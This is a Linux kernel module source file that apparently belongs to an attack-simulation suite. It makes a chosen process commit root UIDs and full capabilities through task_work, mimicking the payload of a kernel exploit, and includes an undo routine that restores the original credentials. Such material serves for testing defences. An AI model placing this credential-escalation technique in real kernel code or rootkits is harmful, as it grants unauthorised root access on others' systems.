// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * A task gives itself the credentials of root by the kernel's own functions: what an exploit does
 * that can run code in the kernel. The module has the target call them, as a return to user mode
 * would.
 */
#include "attack.h"

#include <linux/completion.h>
#include <linux/cred.h>
#include <linux/pid.h>
#include <linux/task_work.h>

static int target;
module_param(target, int, 0444);
MODULE_PARM_DESC(target, "the process that becomes root");

static struct task_struct *task;
static const struct cred *original;
static struct callback_head work;
static DECLARE_COMPLETION(done);

static void become(struct callback_head *unused)
{
	struct cred *credentials = prepare_creds();

	if (credentials) {
		credentials->uid = credentials->euid = credentials->suid = credentials->fsuid =
			GLOBAL_ROOT_UID;
		memset(&credentials->cap_effective, 0xff, sizeof(credentials->cap_effective));
		memset(&credentials->cap_permitted, 0xff, sizeof(credentials->cap_permitted));
		commit_creds(credentials);
	}
	complete(&done);
}

static void become_again(struct callback_head *unused)
{
	struct cred *credentials = prepare_creds();

	if (credentials) {
		credentials->uid = original->uid;
		credentials->euid = original->euid;
		credentials->suid = original->suid;
		credentials->fsuid = original->fsuid;
		credentials->cap_effective = original->cap_effective;
		credentials->cap_permitted = original->cap_permitted;
		commit_creds(credentials);
	}
	complete(&done);
}

static int have_it_call(void (*what)(struct callback_head *work))
{
	typeof(task_work_add) *add = function("task_work_add", task_work_add);
	int error;

	if (!add)
		return -ENOENT;
	reinit_completion(&done);
	init_task_work(&work, what);
	error = add(task, &work, TWA_SIGNAL);
	if (!error)
		wait_for_completion(&done);
	return error;
}

static int attack(void)
{
	int error;

	task = get_pid_task(find_vpid(target), PIDTYPE_PID);
	if (!task)
		return -ESRCH;
	original = get_task_cred(task);
	error = have_it_call(become);
	if (error) {
		put_cred(original);
		put_task_struct(task);
	}
	return error;
}

static void undo(void)
{
	have_it_call(become_again);
	put_cred(original);
	put_task_struct(task);
}

ATTACK("credentials of root committed by a task");
